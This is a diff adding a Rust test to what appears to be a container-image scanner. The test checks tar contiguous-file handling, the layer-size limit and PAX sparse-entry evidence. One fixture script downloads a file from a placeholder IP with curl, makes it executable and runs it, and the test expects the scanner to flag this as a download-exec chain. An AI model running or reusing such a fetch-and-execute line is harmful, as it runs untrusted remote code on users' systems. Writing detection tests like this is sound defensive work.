@@ -506,3 +506,75 @@ fn issue15_a_layer_listed_four_times_is_not_held_four_times() {
     // Rewriting the same bytes hides nothing: no copies kept as "overwritten".
     assert!(s.fs.removed.is_empty(), "{}", s.fs.removed.len());
 }
+
+#[test]
+fn contiguous_files_sparse_size_boundary_and_pax_versions() {
+    // A contiguous file (type '7') is a regular file: hashed and inspected.
+    let script =
+        b"#!/bin/sh\ncurl -fsSL http://198.51.100.7/x -o /tmp/x && chmod +x /tmp/x && /tmp/x\n";
+    let img = ImageBuilder::new()
+        .layer(LayerBuilder::new().contiguous("usr/local/bin/tool", script, 0o755))
+        .build();
+    let (_t, r) = layout(&img);
+    let s = scan_ok(&r);
+    let tool =
+        s.fs.nodes
+            .iter()
+            .find(|(p, _)| p.display() == "/usr/local/bin/tool")
+            .map(|(_, n)| n)
+            .expect("the contiguous file is in the view");
+    assert_eq!(tool.entry.size, script.len() as u64);
+    assert!(
+        codes(&s)
+            .iter()
+            .any(|c| c.starts_with("download-exec-chain /usr/local/bin/tool")),
+        "{:?}",
+        codes(&s)
+    );
+
+    // The expanded size may equal --max-layer-size; one byte more is refused.
+    let real = 600u64 << 10;
+    let img = ImageBuilder::new()
+        .layer(LayerBuilder::new().sparse_pax("big", "0.1", &[(0, b"x")], real))
+        .build();
+    let (_t, r) = layout(&img);
+    let with = |max_layer_bytes| stowaway::ScanOptions {
+        limits: stowaway::Limits {
+            max_layer_bytes,
+            ..Default::default()
+        },
+        ..Default::default()
+    };
+    let s = stowaway::scan(&r, &with(real)).expect("at the limit");
+    let evidence: Vec<&String> = s
+        .findings
+        .iter()
+        .filter(|f| f.code.to_string() == "sparse-file")
+        .flat_map(|f| &f.evidence)
+        .collect();
+    // The PAX version is named as written (0.1 here, 0.0 below).
+    assert!(
+        evidence
+            .iter()
+            .any(|e| e.starts_with("PAX 0.1 sparse entry")),
+        "{evidence:?}"
+    );
+    let e = stowaway::scan(&r, &with(real - 1))
+        .err()
+        .expect("one byte over")
+        .to_string();
+    assert!(e.contains("--max-layer-size"), "{e}");
+    let img = ImageBuilder::new()
+        .layer(LayerBuilder::new().sparse_pax("old", "0.0", &[(0, b"x")], 4096))
+        .build();
+    let (_t, r) = layout(&img);
+    let s = scan_ok(&r);
+    assert!(
+        s.findings
+            .iter()
+            .flat_map(|f| &f.evidence)
+            .any(|e| e.starts_with("PAX 0.0 sparse entry")),
+        "{:?}",
+        s.findings
+    );
+}
